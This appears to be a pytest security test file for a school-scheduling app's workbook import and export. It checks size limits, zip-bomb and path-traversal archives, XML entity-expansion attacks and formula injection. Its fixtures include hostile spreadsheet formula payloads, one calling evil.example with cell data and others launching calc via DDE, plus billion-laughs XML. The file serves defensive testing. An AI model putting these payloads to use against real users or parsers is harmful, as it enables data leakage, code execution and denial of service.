"""Hostile files: size limits, zip bombs, unsafe archives, XML entity attacks, formula
injection in every export, and a hostile import that leaves the store untouched."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import struct
import time
import tomllib
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from domain.problems import Problems
from domain.schedule import Placed, Schedule
from domain.school import Activity, Group, School, SchoolInfo, Slot, Teacher
from scheduler.check import read_schedule_csv
from scheduler.export import schedule_from_rows, write_schedule_csv, write_schedule_xlsx
from store.db import init_db, make_engine
from store.importer import import_paths
from store_helpers import dump
from workbook import safety
from workbook.reader import read_school, read_school_bytes
from workbook.template import write_template
from workbook.writer import write_csv_folder, write_xlsx
from workbook_helpers import base_school, tiny_school

ROOT = Path(__file__).resolve().parent.parent
MIB = safety.MIB

# What an attacker puts in a name: each would run as a formula if a spreadsheet evaluated it.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
)


def codes(result) -> list[str]:
    return [p.code for p in result.problems.items]


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx_members(school: School, tmp_path: Path) -> dict[str, bytes]:
    data = write_xlsx(school, tmp_path / "school.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def hostile_school() -> School:
    """base_school with a formula payload in every kind of text the exports carry."""
    school = base_school()
    teachers = list(school.teachers)
    teachers[0] = replace(teachers[0], name=PAYLOADS[0])
    teachers[1] = replace(teachers[1], name=PAYLOADS[1])
    teachers[2] = replace(teachers[2], teacher_id="-T3", name=PAYLOADS[4])
    activities = list(school.activities)
    activities[0] = replace(activities[0], name=PAYLOADS[2])
    rooms = list(school.rooms)
    rooms[3] = replace(rooms[3], room_id="@DANCE", name=PAYLOADS[3])
    return replace(
        school,
        info=replace(school.info, name=PAYLOADS[3]),
        teachers=tuple(teachers),
        activities=tuple(activities),
        rooms=tuple(rooms),
    )


def sheet_xml(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [
            archive.read(n).decode("utf-8")
            for n in archive.namelist()
            if n.startswith("xl/worksheets/") and n.endswith(".xml")
        ]


def assert_no_formulas(path: Path) -> list[object]:
    """No formula in any sheet (XML and openpyxl agree); returns every cell value."""
    for xml in sheet_xml(path):
        assert re.search(r"<f[ >]", xml) is None, path
    wb = load_workbook(path)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and safety.looks_like_formula(cell.value):
                    assert cell.quotePrefix, (path, cell.coordinate)
                values.append(cell.value)
    return values


def csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_csv_inert(path: Path) -> list[str]:
    cells = csv_cells(path)
    for cell in cells:
        assert not safety.looks_like_formula(cell), (path, cell)
    return cells


# ---------------------------------------------------------------- sizes


def test_oversize_upload_names_file_and_size() -> None:
    data = b"PK" + bytes(safety.MAX_FILE_BYTES - 1)
    result = read_school_bytes("大文件.xlsx", data)
    [problem] = result.problems.items
    assert problem.code == "wb.file.too_large"
    assert "大文件.xlsx" in problem.zh and "大文件.xlsx" in problem.en
    assert "50.0 MB" in problem.en and "50 MB" in problem.en
    assert result.school is None
    # Exactly the limit is still read (and found not to be a workbook).
    assert codes(read_school_bytes("x.xlsx", b"x" * safety.MAX_FILE_BYTES)) == ["wb.file.not_xlsx"]


def test_oversize_file_on_disk_is_refused_before_reading(tmp_path: Path) -> None:
    big = tmp_path / "big.xlsx"
    with open(big, "wb") as fh:
        fh.truncate(safety.MAX_FILE_BYTES + 1)  # sparse: costs no disk
    assert codes(read_school(big)) == ["wb.file.too_large"]
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    with open(folder / "teachers.csv", "ab") as fh:
        fh.truncate(safety.MAX_FILE_BYTES + 10)
    result = read_school(folder)
    assert codes(result) == ["wb.file.too_large"]
    assert "teachers.csv" in result.problems.items[0].en


def test_streamlit_upload_limit_is_the_reader_limit() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
    assert config["server"]["maxUploadSize"] * MIB == safety.MAX_FILE_BYTES


# ---------------------------------------------------------------- zip bombs and archives


def test_zip_bomb_xlsx_is_refused(tmp_path: Path) -> None:
    members = xlsx_members(tiny_school(), tmp_path)
    members["xl/media/image1.png"] = bytes(60 * MIB)  # ~60 KB compressed
    data = zipped(members)
    assert len(data) < MIB
    started = time.perf_counter()
    result = read_school_bytes("bomb.xlsx", data)
    assert time.perf_counter() - started < 2
    assert set(codes(result)) == {"wb.zip.too_big", "wb.zip.ratio"}
    ratio = next(p for p in result.problems.items if p.code == "wb.zip.ratio")
    assert ratio.value == "xl/media/image1.png" and "zip bomb" in ratio.en
    # The same file from disk goes through the same check.
    (tmp_path / "bomb.xlsx").write_bytes(data)
    assert set(codes(read_school(tmp_path / "bomb.xlsx"))) == {"wb.zip.too_big", "wb.zip.ratio"}


def test_ratio_alone_is_refused_and_small_members_may_compress_well(tmp_path: Path) -> None:
    members = xlsx_members(tiny_school(), tmp_path)
    members["xl/media/pad.bin"] = bytes(MIB - 1)  # below the floor: harmless
    assert read_school_bytes("ok.xlsx", zipped(members)).school == tiny_school()
    members["xl/media/pad.bin"] = bytes(5 * MIB)
    assert codes(read_school_bytes("bomb.xlsx", zipped(members))) == ["wb.zip.ratio"]


def test_zip_bomb_csv_zip_is_refused(tmp_path: Path) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    members = {p.name: p.read_bytes() for p in folder.iterdir()}
    members["enrolments.csv"] = b"student_id,activity_id\n" + b"S1,A1\n" * (10 * MIB)
    result = read_school_bytes("school.zip", zipped(members))
    assert set(codes(result)) == {"wb.zip.too_big", "wb.zip.ratio"}
    assert result.school is None


def test_too_many_entries(tmp_path: Path) -> None:
    members = xlsx_members(tiny_school(), tmp_path)
    members.update({f"xl/media/{i}.txt": b"x" for i in range(safety.MAX_MEMBERS)})
    assert codes(read_school_bytes("many.xlsx", zipped(members))) == ["wb.zip.too_many"]


def test_declared_entry_count_is_checked_before_parsing() -> None:
    data = bytearray(zipped({"teachers.csv": b"a,b\n"}))
    at = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, at + 8, 60000, 60000)  # the record claims 60,000 entries
    result = read_school_bytes("lying.zip", bytes(data))
    assert codes(result) == ["wb.zip.too_many"]
    assert "60000" in result.problems.items[0].en


@pytest.mark.parametrize("name", ["../teachers.csv", "/etc/teachers.csv", "..\\teachers.csv"])
def test_path_traversal_zip_is_refused(tmp_path: Path, name: str) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    members = {p.name: p.read_bytes() for p in folder.iterdir()}
    members[name] = members.pop("teachers.csv")
    result = read_school_bytes("school.zip", zipped(members))
    assert codes(result) == ["wb.zip.unsafe_path"]
    assert result.problems.items[0].value == name


def test_encrypted_or_unsupported_member_is_a_clear_error(tmp_path: Path) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    data = bytearray(zipped({p.name: p.read_bytes() for p in folder.iterdir()}))
    # Mark every member encrypted (general purpose flag bit 0) in both headers.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for match in re.finditer(re.escape(signature), bytes(data)):
            data[match.start() + offset] |= 1
    assert codes(read_school_bytes("school.zip", bytes(data))) == ["wb.file.bad_zip"]


def laughs_doctype(levels: int = 9) -> str:
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels + 1))
    return f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]>'


def with_doctype(xml: bytes, doctype: str, reference: str) -> bytes:
    text = xml.decode("utf-8")
    if text.startswith("<?xml"):
        text = text[text.index("?>") + 2 :]
    return (doctype + text.replace("<t>", f"<t>{reference}", 1)).encode("utf-8")


@pytest.mark.parametrize("part", ["xl/worksheets/sheet2.xml", "xl/workbook.xml"])
def test_billion_laughs_is_refused(tmp_path: Path, part: str) -> None:
    members = xlsx_members(tiny_school(), tmp_path)
    members[part] = with_doctype(members[part], laughs_doctype(), "&lol9;")
    started = time.perf_counter()
    result = read_school_bytes("laughs.xlsx", zipped(members))
    assert time.perf_counter() - started < 2
    assert codes(result) == ["wb.file.xml_entities"]
    assert result.problems.items[0].zh and result.problems.items[0].en


def test_quadratic_blowup_is_refused(tmp_path: Path) -> None:
    members = xlsx_members(tiny_school(), tmp_path)
    doctype = f'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "{"a" * 50_000}">]>'
    part = "xl/worksheets/sheet2.xml"
    members[part] = with_doctype(members[part], doctype, "&a;" * 20_000)
    assert codes(read_school_bytes("quadratic.xlsx", zipped(members))) == ["wb.file.xml_entities"]


def test_openpyxl_uses_defusedxml() -> None:
    import openpyxl

    assert openpyxl.DEFUSEDXML


# ---------------------------------------------------------------- formula injection


def test_csv_quoting_is_reversible_and_leaves_numbers() -> None:
    for text in (*PAYLOADS, "\tx", "\rx", "-", "@", "'", "''-1x", "plain", "", "王芳"):
        assert safety.csv_unescape(safety.csv_text(text)) == text
        assert not safety.looks_like_formula(safety.csv_text(text))
    assert safety.csv_text("=1+1") == "'=1+1"
    assert safety.csv_text("\tx") == "'\tx"
    for number in ("-12.50", "+3", "-1e5", "0"):
        assert safety.csv_text(number) == number
    assert safety.csv_text(-5) == -5 and safety.csv_text(-1.5) == -1.5


def test_school_workbook_and_csv_exports_are_inert_and_round_trip(tmp_path: Path) -> None:
    school = hostile_school()
    for lang in ("en", "zh"):
        path = write_xlsx(school, tmp_path / f"{lang}.xlsx", lang=lang, title=True)
        values = assert_no_formulas(path)
        assert PAYLOADS[0] in values and "-T3" in values
        back = read_school(path)
        assert back.problems.errors == [] and back.school == school
        folder = write_csv_folder(school, tmp_path / f"csv_{lang}", lang=lang)
        cells = [c for p in folder.iterdir() for c in assert_csv_inert(p)]
        assert "'" + PAYLOADS[0] in cells and "'-T3" in cells and "''=already quoted" in cells
        back = read_school(folder)
        assert back.problems.errors == [] and back.school == school


def test_template_has_no_formulas(tmp_path: Path) -> None:
    for lang in ("en", "zh"):
        assert_no_formulas(write_template(tmp_path / f"t_{lang}.xlsx", lang=lang))


def hostile_schedule(school: School) -> Schedule:
    return Schedule(
        school.info.school_id,
        (
            Placed("A1", 1, "extended", 1, "M2", "16:40", "17:40", "@DANCE", ("-T3", "007")),
            Placed("basic:101", 1, "basic", 1, "M1", "15:30", "16:30", "R101", ("T2",)),
        ),
    )


def test_schedule_exports_are_inert(tmp_path: Path) -> None:
    school = hostile_school()
    schedule = hostile_schedule(school)
    path = write_schedule_csv(schedule, tmp_path / "schedule.csv")
    cells = assert_csv_inert(path)
    assert "'@DANCE" in cells and "'-T3" in cells
    # The contract's normal values are written exactly as before.
    assert csv_cells(path)[:10] == [
        "session_id",
        "activity_id",
        "session",
        "kind",
        "day",
        "slot_id",
        "start",
        "end",
        "room_id",
        "teacher_id",
    ]
    assert "basic:101" in cells and "15:30" in cells and "R101" in cells
    back = schedule_from_rows(school.info.school_id, read_schedule_csv(path))
    assert set(back.sessions) == set(schedule.sessions)
    for lang in ("zh", "en"):
        values = assert_no_formulas(
            write_schedule_xlsx(school, schedule, tmp_path / f"s_{lang}.xlsx", lang)
        )
        assert "@DANCE" in values and any(PAYLOADS[0] in str(v) for v in values)


def payroll_school() -> School:
    slots = (
        Slot("MON1", 1, "16:00", "16:45", "basic"),
        Slot("TUE1", 2, "16:00", "17:30", "extended"),
    )
    teachers = (
        Teacher("T1", PAYLOADS[0], skills=("篮球",)),
        Teacher("-T2", PAYLOADS[2], skills=("篮球",)),
        Teacher("T3", "@SUM(1)", skills=("篮球",)),
    )
    groups = (Group("G1", (3,), 40, ("MON1",), 40),)
    activities = (Activity("A1", "=篮球", "sports", "篮球", 1, 20),)
    return School(
        SchoolInfo("S1", PAYLOADS[1], "primary", "village"), slots, teachers, groups, activities
    )


def test_payroll_exports_are_inert(tmp_path: Path) -> None:
    from compensation.evidence import read_evidence
    from compensation.payroll import write_all
    from compensation.policy import Policy, Term
    from compensation.run import run_school
    from compensation.samplegen import generate, read_schedule_csv, write_sample

    school = payroll_school()
    term = Term("2025-autumn", dt.date(2025, 9, 1), dt.date(2025, 10, 31), ())
    schedule = Schedule(
        "S1",
        (
            Placed("basic:G1", 1, "basic", 1, "MON1", "16:00", "16:45", "R1", ("T1",)),
            Placed("A1", 1, "extended", 2, "TUE1", "16:00", "17:30", "GYM", ("-T2", "T3")),
        ),
    )
    generated = generate([school], term, seed=7, schedules={"S1": schedule})
    write_sample(generated, tmp_path / "ev")
    for path in (tmp_path / "ev").rglob("*.csv"):
        assert_csv_inert(path)
    assert read_schedule_csv(tmp_path / "ev" / "schedules" / "S1.csv", "S1") == schedule
    evidence = read_evidence(tmp_path / "ev", Policy(term=term), {"S1": school})
    assert evidence.problems.errors == []
    result = run_school(school, Policy(term=term), evidence, schedule)
    files = write_all(result, tmp_path / "out")
    names = set()
    for path in files:
        if path.suffix == ".csv":
            names.update(assert_csv_inert(path))
        elif path.suffix == ".xlsx":
            names.update(str(v) for v in assert_no_formulas(path))
    assert "'" + PAYLOADS[0] in names and PAYLOADS[0] in names
    # Money stays numbers: a negative difference is no formula and is not quoted.
    comparison = csv_cells(tmp_path / "out" / "comparison.csv")
    assert not any(c.startswith("'") and c[1:].lstrip("-").replace(".", "").isdigit()
                   for c in comparison)  # fmt: skip


def test_scenario_report_xlsx_is_inert(tmp_path: Path) -> None:
    import pandas as pd

    from scenarios.report import _write_xlsx

    frame = pd.DataFrame({"name": list(PAYLOADS), "value": [-1.5, 2, -3, 4, 5]})
    path = tmp_path / "compare.xlsx"
    _write_xlsx(path, {"对比": frame})
    values = assert_no_formulas(path)
    assert PAYLOADS[0] in values and -1.5 in values


def test_scenario_run_files_are_inert_and_read_back(tmp_path: Path) -> None:
    from scenarios.aggregate import aggregate, rows_frame, unstaffed_frame
    from scenarios.engine import RunStats
    from scenarios.levers import load_scenario, preset_path
    from scenarios.pipeline import RunResult, load_run, write_run

    failures = [
        {"school_id": "-S1", "step": "read", "status": "error", "reason": PAYLOADS[0]},
        {"school_id": "S2", "step": "solve", "status": "error", "reason": "plain"},
    ]
    result = RunResult(
        load_scenario(preset_path("baseline")),
        {},
        failures,
        RunStats(engine="local", workers=1),
        aggregate(rows_frame([]), unstaffed_frame([])),
    )
    write_run(result, tmp_path, report=False)
    for path in tmp_path.glob("*.csv"):
        assert_csv_inert(path)
    assert "'" + PAYLOADS[0] in csv_cells(tmp_path / "failures.csv")
    assert load_run(tmp_path).failures.to_dict("records") == failures


def test_frames_round_trip_through_csv(tmp_path: Path) -> None:
    import pandas as pd

    frame = pd.DataFrame({"school_id": ["-S1", "S2"], "name": [PAYLOADS[0], "城关小学"],
                          "students": [-3, 40]})  # fmt: skip
    path = tmp_path / "schools.csv"
    safety.safe_frame(frame).to_csv(path, index=False, encoding="utf-8-sig")
    assert_csv_inert(path)
    assert "-3" in csv_cells(path)  # a number is no text: never quoted
    back = pd.read_csv(path, encoding="utf-8-sig", dtype={"school_id": str})
    pd.testing.assert_frame_equal(safety.unescape_frame(back), frame)


def test_edited_cells_stay_text_in_the_app(tmp_path: Path) -> None:
    from ui.state import frames_of, revalidate

    school = tiny_school()
    frames = frames_of(school, "en")
    teachers = frames["teachers"].copy()
    teachers.iloc[0, list(teachers.columns).index("name")] = "=1+1"
    result = revalidate(school, {"teachers": teachers}, "en", "edited")
    assert result.problems.errors == []
    assert result.school is not None and result.school.teachers[0].name == "=1+1"


# ---------------------------------------------------------------- the store


def test_hostile_import_leaves_the_store_unchanged(tmp_path: Path, store_url: str) -> None:
    engine = make_engine(store_url)
    init_db(engine)
    assert import_paths(engine, [write_xlsx(base_school(), tmp_path / "ok.xlsx")]).ok
    before = dump(engine)
    members = xlsx_members(tiny_school(), tmp_path)
    members["xl/media/image1.png"] = bytes(60 * MIB)
    (tmp_path / "bomb.xlsx").write_bytes(zipped(members))
    laughs = xlsx_members(tiny_school(), tmp_path)
    laughs["xl/workbook.xml"] = with_doctype(laughs["xl/workbook.xml"], laughs_doctype(), "")
    (tmp_path / "laughs.xlsx").write_bytes(zipped(laughs))
    sources = [tmp_path / "bomb.xlsx", tmp_path / "laughs.xlsx", tmp_path / "ok.xlsx"]
    outcome = import_paths(engine, sources)
    assert not outcome.ok
    assert {p.code for p in outcome.errors} == {
        "wb.zip.too_big",
        "wb.zip.ratio",
        "wb.file.xml_entities",
    }
    assert dump(engine) == before
    engine.dispose()


def test_written_workbook_formula_cell_is_read_as_nothing_not_run(tmp_path: Path) -> None:
    """A school's own workbook with a real formula: the reader takes the cached value
    (none when never calculated), it never evaluates anything."""
    wb = Workbook()
    ws = wb.active
    ws.title = "school"
    ws.append(["school_id", "name"])
    ws.append(["S1", '=HYPERLINK("http://evil")'])
    wb.save(tmp_path / "f.xlsx")
    result = read_school(tmp_path / "f.xlsx")
    assert "wb.cell.required" in codes(result) or "wb.sheet.missing" in codes(result)
    assert result.school is None


def test_sheet_row_limit(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from workbook import load

    # base_school has 4 slots and 4 rooms: with their headers, 5 rows each.
    monkeypatch.setattr(load, "MAX_ROWS", 4)
    folder = write_csv_folder(base_school(), tmp_path / "csv")
    problems = read_school(folder).problems.items
    assert {(p.code, p.sheet) for p in problems} == {
        ("wb.sheet.too_big", "slots.csv"),
        ("wb.sheet.too_big", "rooms.csv"),
    }
    assert "4 rows" in problems[0].en
    problems = read_school(write_xlsx(base_school(), tmp_path / "s.xlsx")).problems.items
    assert {(p.code, p.sheet) for p in problems} == {
        ("wb.sheet.too_big", "slots"),
        ("wb.sheet.too_big", "rooms"),
    }


# ---------------------------------------------------------------- found by the fuzzer


def test_unknown_zip_version_is_a_clear_error(tmp_path: Path) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    data = bytearray(zipped({p.name: p.read_bytes() for p in folder.iterdir()}))
    at = bytes(data).find(b"PK\x01\x02")
    data[at + 6] = 64  # "version needed to extract": 6.4, which zipfile refuses to open
    assert codes(read_school_bytes("school.zip", bytes(data))) == ["wb.file.bad_zip"]


def test_damaged_deflate_data_is_a_clear_error(tmp_path: Path) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    data = bytearray(zipped({p.name: p.read_bytes() * 50 for p in folder.iterdir()}))
    at = bytes(data).find(b"PK\x03\x04")
    data[at + 60 : at + 80] = bytes(20)  # inside the first entry's compressed data
    assert "wb.file.bad_zip" in codes(read_school_bytes("school.zip", bytes(data)))


def test_csv_cell_over_the_field_limit_is_a_clear_error(tmp_path: Path) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    with open(folder / "teachers.csv", "a", encoding="utf-8") as fh:
        fh.write('T9,"' + "x" * 200_000 + '"\n')
    result = read_school(folder)
    assert codes(result) == ["wb.file.csv_error"]
    assert result.problems.items[0].sheet == "teachers.csv"


def test_entry_without_a_name_is_refused(tmp_path: Path) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    members = {p.name: p.read_bytes() for p in folder.iterdir()}
    members["Xteachers.csv"] = members.pop("teachers.csv")
    data = zipped(members).replace(b"Xteachers.csv", b"\0teachers.csv")
    assert codes(read_school_bytes("school.zip", data)) == ["wb.zip.unsafe_path"]


# ---------------------------------------------------------------- the column limit


def test_cell_right_of_the_column_limit_is_a_located_warning(tmp_path: Path) -> None:
    from workbook.load import MAX_COLUMNS

    path = write_xlsx(base_school(), tmp_path / "wide.xlsx")
    wb = load_workbook(path)
    wb["teachers"].cell(row=3, column=MAX_COLUMNS + 1, value="备注：周三请假")
    wb["teachers"].cell(row=4, column=MAX_COLUMNS + 7, value=42)
    wb.save(path)
    result = read_school(path)
    assert result.school == base_school()  # the data in known columns is read as before
    [problem] = result.problems.items
    assert problem.severity == "warning" and problem.code == "wb.cell.beyond_limit"
    assert (problem.sheet, problem.row, problem.column) == ("teachers", 3, "GS")
    assert problem.value == "备注：周三请假"
    assert "column GS (column 201)" in problem.en and "2 non-blank" in problem.en
    assert "GS 列（第 201 列）" in problem.zh and "2 个非空单元格" in problem.zh
    assert "GR" in problem.en and "GR" in problem.zh  # the last column that is read
    # Only in the reader's memory: nothing right of the limit is kept.
    from workbook.load import xlsx_sheets

    sheets = xlsx_sheets(path.read_bytes(), "wide.xlsx", Problems())
    assert all(len(row) <= MAX_COLUMNS for s in sheets for _, row in s.rows)


def test_cell_right_of_the_column_limit_in_a_csv_folder(tmp_path: Path) -> None:
    folder = write_csv_folder(base_school(), tmp_path / "csv")
    lines = (folder / "rooms.csv").read_text("utf-8-sig").splitlines()
    lines[2] += "," * 250 + "far away"  # line 3: 5 columns, then 250 more: column 255, IU
    (folder / "rooms.csv").write_text("\n".join(lines) + "\n", "utf-8-sig")
    result = read_school(folder)
    assert result.school == base_school()
    [problem] = result.problems.items
    assert (problem.code, problem.sheet, problem.row) == ("wb.cell.beyond_limit", "rooms.csv", 3)
    assert problem.column == "IU" and problem.value == "far away"
    assert "column 255" in problem.en and "1 non-blank" in problem.en


def test_contract_column_right_of_the_limit_is_an_error(tmp_path: Path) -> None:
    """Its data would silently become the column's default: refuse, name the column."""
    from workbook.load import MAX_COLUMNS

    path = write_xlsx(base_school(), tmp_path / "moved.xlsx")
    wb = load_workbook(path)
    ws = wb["teachers"]
    at = [c.value for c in ws[1]].index("max_per_week") + 1
    moved = [ws.cell(row=row, column=at).value for row in range(1, ws.max_row + 1)]
    ws.delete_cols(at)
    for row, value in enumerate(moved, start=1):
        ws.cell(row=row, column=MAX_COLUMNS + 3, value=value)
    wb.save(path)
    result = read_school(path)
    assert result.school is None
    [error] = result.problems.errors
    assert error.code == "wb.column.beyond_limit"
    assert (error.sheet, error.row, error.column, error.value) == (
        "teachers",
        1,
        "GU",
        "max_per_week",
    )
    assert "max_per_week" in error.en and "GR" in error.en and "GU" in error.zh


def test_sheet_with_data_only_right_of_the_limit_says_why_it_is_empty(tmp_path: Path) -> None:
    from workbook.load import MAX_COLUMNS

    wb = Workbook()
    wb.active.title = "school"
    wb.active.cell(row=1, column=MAX_COLUMNS + 1, value="school_id")
    wb.active.cell(row=2, column=MAX_COLUMNS + 1, value="S1")
    wb.save(tmp_path / "far.xlsx")
    result = read_school(tmp_path / "far.xlsx")
    assert result.school is None
    assert [(p.code, p.sheet, p.row, p.column) for p in result.problems.items] == [
        ("wb.file.no_data", None, None, None),
        ("wb.cell.beyond_limit", "school", 1, "GS"),
    ]


def test_column_letters() -> None:
    from workbook.parse import column_letter

    assert [column_letter(n) for n in (1, 26, 27, 52, 200, 201, 702, 703, 16384)] == [
        "A", "Z", "AA", "AZ", "GR", "GS", "ZZ", "AAA", "XFD",
    ]  # fmt: skip


# ---------------------------------------------------------------- a CSV folder on disk


def test_csv_folder_over_the_total_limit_is_refused_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    for name in ("notes1.csv", "notes2.csv"):
        with open(folder / name, "wb") as fh:  # each within the per-file limit
            fh.truncate(safety.MAX_FILE_BYTES - MIB)  # sparse: costs no disk
    read = []
    monkeypatch.setattr(Path, "read_bytes", lambda self: read.append(self) or b"")
    result = read_school(folder)
    assert read == []  # refused on the files' sizes alone
    [problem] = result.problems.items
    assert problem.code == "wb.folder.too_big" and problem.file == str(folder)
    assert f"above the limit of {safety.MAX_FOLDER_BYTES // MIB} MB" in problem.en
    assert "98.0 MB" in problem.en and "98.0 MB" in problem.zh
    assert result.school is None


def test_csv_folder_with_too_many_files_is_refused(tmp_path: Path) -> None:
    folder = write_csv_folder(tiny_school(), tmp_path / "csv")
    for i in range(safety.MAX_FOLDER_FILES):
        (folder / f"x{i}.csv").write_bytes(b"")
    result = read_school(folder)
    [problem] = result.problems.items
    assert problem.code == "wb.folder.too_many" and problem.file == str(folder)
    assert f"more than {safety.MAX_FOLDER_FILES}" in problem.en
    # Exactly the limit is read (the extra sheets are empty and unknown).
    for i in range(len(list(folder.iterdir())) - safety.MAX_FOLDER_FILES):
        (folder / f"x{i}.csv").unlink()
    assert len(list(folder.iterdir())) == safety.MAX_FOLDER_FILES
    assert read_school(folder).school == tiny_school()
